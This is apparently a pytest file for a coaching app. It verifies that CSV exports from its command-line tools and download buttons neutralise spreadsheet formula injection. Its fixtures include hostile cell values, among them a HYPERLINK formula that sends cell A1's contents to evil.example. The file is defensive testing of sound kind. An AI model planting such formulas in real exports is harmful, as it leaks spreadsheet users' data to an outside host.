"""Every CSV export neutralises formula-like text (OWASP CSV injection): ``nps`` / ``fcr`` / ``nps-behaviour
--format csv`` on the command line, and the app's "Download ... as CSV" buttons (:func:`ui.widgets.table`)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from coaching.access import User
from coaching.exports import frame_csv
from coaching.services.admin import save_user
from coaching.settings import Settings
from coaching.store.db import Database
from coaching.views.calls import call_table
from coaching.views.progress import agent_progress
from tests.cli_helpers import run_cli

pytest_plugins = ("tests.app_helpers",)

# survey cells a hostile export (or a hostile agent name in the HR system) could carry
HOSTILE_AGENT = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
HOSTILE_TEAM = "@SUM(1+1)"
HOSTILE_OTHER = "-2+3"


def survey_file(tmp_path: Path) -> Path:
    rows = [
        ("C-1", HOSTILE_AGENT, "2026-11-02", 10, HOSTILE_TEAM),
        ("C-2", HOSTILE_AGENT, "2026-11-03", 2, HOSTILE_TEAM),
        ("C-3", HOSTILE_OTHER, "2026-11-04", 9, "+team"),
        ("C-4", "aino", "2026-11-05", 0, "team-north"),
    ]
    path = tmp_path / "hostile.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["contact_id", "agent", "answered_at", "score", "team"])
        writer.writerows(rows)
    return path


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def cli_settings(tmp_path: Path) -> Settings:
    settings = Settings.from_env({"COACHING_DATA_DIR": str(tmp_path / "data")})
    code, _, err = run_cli(settings, "import-nps", str(survey_file(tmp_path)))
    assert (code, err) == (0, "")
    return settings


@pytest.mark.parametrize("command", ["nps", "fcr"])
def test_period_tables_as_csv_neutralise_hostile_agent_and_team_names(cli_settings: Settings, command: str) -> None:
    code, out, err = run_cli(cli_settings, command, "--by", "month", "--format", "csv")
    assert (code, err) == (0, "")
    rows = cells(out)
    agents, teams = {r["agent"] for r in rows}, {r["team"] for r in rows}
    assert {"'" + HOSTILE_AGENT, "'" + HOSTILE_OTHER, "aino"} <= agents
    assert {"'" + HOSTILE_TEAM, "'+team", "team-north"} <= teams
    assert not [v for r in rows for v in r.values() if v and v[0] in "=+@\t\r"]


def test_negative_nps_stays_a_number_in_the_csv(cli_settings: Settings) -> None:
    code, out, _ = run_cli(cli_settings, "nps", "--by", "month", "--level", "team", "--format", "csv")
    assert code == 0
    nps = {r["team"]: r["nps"] for r in cells(out)}
    assert float(nps["team-north"]) == -100.0  # one detractor: -100, written as a number, not quoted
    assert not nps["team-north"].startswith("'")


def test_json_output_keeps_the_names_as_they_were_imported(cli_settings: Settings) -> None:
    code, out, _ = run_cli(cli_settings, "nps", "--by", "month", "--format", "json")
    assert code == 0 and HOSTILE_AGENT.replace('"', '\\"') in out


def unsafe_cells(rows: list[dict[str, str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula (a leading ``-`` is fine on a number)."""

    def number(text: str) -> bool:
        try:
            float(text)
        except ValueError:
            return False
        return True

    return [v for r in rows for v in r.values() if v and v[0] in "=+-@\t\r" and not number(v)]


def test_the_apps_call_table_download_neutralises_hostile_names(
    app_db: Database, people: Callable[[str], User]
) -> None:
    """The calls page shows :func:`call_table` through ``ui.widgets.table``, whose download is :func:`frame_csv`."""
    save_user(people("admin"), app_db, user_id="aino", name=HOSTILE_AGENT, role="agent", team_ids=("team-north",))
    frame = call_table(people("coach-north"), app_db)
    rows = cells(frame_csv(frame).decode("utf-8"))
    assert {r["agent"] for r in rows if r["call"].startswith("t-aino")} == {"'" + HOSTILE_AGENT}
    assert unsafe_cells(rows) == []


def test_progress_table_download_keeps_negative_numbers(app_db: Database, people: Callable[[str], User]) -> None:
    progress = agent_progress(people("aino"), app_db, "aino")
    rows = cells(frame_csv(progress.nps).decode("utf-8"))
    assert rows and not [r["nps"] for r in rows if r["nps"].startswith("'")]
    assert [float(r["nps"]) for r in rows] == pytest.approx([float(v) for v in progress.nps["nps"]], nan_ok=True)


def test_the_download_button_on_the_calls_page_serves_the_safe_csv(
    app_db: Database,
    people: Callable[[str], User],
    open_app: Callable[[str | None], AppTest],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """What the page hands to ``st.download_button`` has the hostile agent name quoted."""
    import streamlit as st

    save_user(people("admin"), app_db, user_id="aino", name=HOSTILE_AGENT, role="agent", team_ids=("team-north",))
    served: dict[str, Any] = {}
    original = st.download_button

    def spy(label: str, data: Any, *args: Any, **kwargs: Any) -> bool:
        served[label] = data
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", spy)
    at = open_app("coach-north").switch_page("pages/calls.py").run()
    assert not at.exception
    data = served["Download calls as CSV"]
    rows = cells((data() if callable(data) else data).decode("utf-8"))  # the app may make the file on the click
    assert {r["agent"] for r in rows if r["call"].startswith("t-aino")} == {"'" + HOSTILE_AGENT}
    assert unsafe_cells(rows) == []


def test_audit_csv_neutralises_what_people_named(cli_settings: Settings) -> None:
    """``audit --format csv`` goes through the same writer: an export named like a formula (a table name the app
    passes on) comes out quoted."""
    from coaching.access import SYSTEM_USER
    from coaching.services.audit import record_export

    db = Database.open(cli_settings.db_url)
    try:
        record_export(SYSTEM_USER, db, HOSTILE_TEAM, rows=-2, detail=HOSTILE_OTHER)
    finally:
        db.dispose()
    code, out, err = run_cli(cli_settings, "audit", "--format", "csv")
    assert (code, err) == (0, "")
    rows = cells(out)
    assert any(r["object_id"] == "'" + HOSTILE_TEAM for r in rows)
    assert unsafe_cells(rows) == []
